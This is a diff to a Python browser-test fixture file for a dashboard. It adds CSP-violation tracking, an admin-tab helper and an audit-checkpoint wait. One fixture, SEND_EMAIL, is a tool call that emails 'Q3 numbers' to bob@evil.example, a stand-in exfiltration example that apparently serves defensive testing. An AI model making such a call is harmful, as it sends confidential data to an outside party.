@@ -3,8 +3,10 @@ package with ``executable_path`` (never a downloaded browser), one ``vettra dev`
 one browser per test module, and a signed-in tab per test for a user of its own.
 
 The fixtures are registered in conftest.py. After every test the tab must have logged
-no console error (beyond refusals the test provoked on purpose and declared) and loaded
-nothing from another origin. Screenshots go to ``tests/artifacts/dashboard/``.
+no console error (beyond refusals the test provoked on purpose and declared), reported
+no Content-Security-Policy violation (``securitypolicyviolation`` events, collected by
+an init script) and loaded nothing from another origin. Screenshots go to
+``tests/artifacts/dashboard/``.
 """
 
 from __future__ import annotations
@@ -44,6 +46,19 @@ SEND_EMAIL = {
     "tool": "gmail.send_message",
     "arguments": {"to": "bob@evil.example", "subject": "Q3 numbers", "body": "See attached."},
 }
+
+
+#: collects the page's CSP violations in window.__cspViolations (read by csp_violations)
+CSP_WATCH = """
+window.__cspViolations = [];
+document.addEventListener("securitypolicyviolation", (e) => {
+  window.__cspViolations.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"}`);
+});
+"""
+
+
+def csp_violations(page: Any) -> list[str]:
+    return list(page.evaluate("window.__cspViolations || []"))
 
 
 def _chromium() -> str:
@@ -145,6 +160,7 @@ _users = iter(range(10_000))
 def dash(browser, web_server, web_admin, request) -> Iterator[Dashboard]:
     user = f"u{next(_users)}-{request.node.name[5:25].replace('_', '-')}"
     context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context.add_init_script(CSP_WATCH)
     page = context.new_page()
     page.set_default_timeout(TIMEOUT_MS)
     problems: list[str] = []
@@ -164,7 +180,9 @@ def dash(browser, web_server, web_admin, request) -> Iterator[Dashboard]:
         page.goto(sign_in_link(web_admin, web_server, user))
         page.wait_for_selector("#queue-title")
         yield d
+        violations = csp_violations(page)
         context.close()
+    assert violations == [], violations
     refused = re.compile(r"Failed to load resource: the server responded with a status of (\d+)")
     for status in d.expected_refusals:
         match = next(
@@ -193,3 +211,35 @@ def enrol_totp(dash: Dashboard) -> pyotp.TOTP:
         )
         assert done.status_code == 200, done.text
     return totp
+
+
+def admin_tab(
+    browser: Any, web_server: DevServer, web_admin: httpx.Client, sub: str = "ops-admin"
+) -> Any:
+    """A signed-in admin tab; ``tab.problems`` collects its console errors and page errors."""
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context.add_init_script(CSP_WATCH)
+    page = context.new_page()
+    page.set_default_timeout(TIMEOUT_MS)
+    problems: list[str] = []
+    page.on("pageerror", lambda e: problems.append(str(e)))
+    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
+    code = web_admin.post("/api/dashboard/links", json={"sub": sub, "role": "admin"}).json()
+    page.goto(f"http://localhost:{web_server.port}{code['path']}")
+    page.wait_for_selector("#queue-title")
+    tab = Dashboard(web_server, page, sub, httpx.Client())
+    tab.problems = problems  # type: ignore[attr-defined]
+    return tab
+
+
+def wait_for_checkpoint(web_admin: httpx.Client, timeout_s: float = 10) -> int:
+    """Wait until a signed checkpoint covers the whole log; its size."""
+    deadline = time.monotonic() + timeout_s
+    while True:
+        size = web_admin.get("/api/audit/checkpoint").json()["size"]
+        if (
+            size == web_admin.get("/api/audit/verify").json()["length"]
+            or time.monotonic() > deadline
+        ):
+            return int(size)
+        time.sleep(0.3)
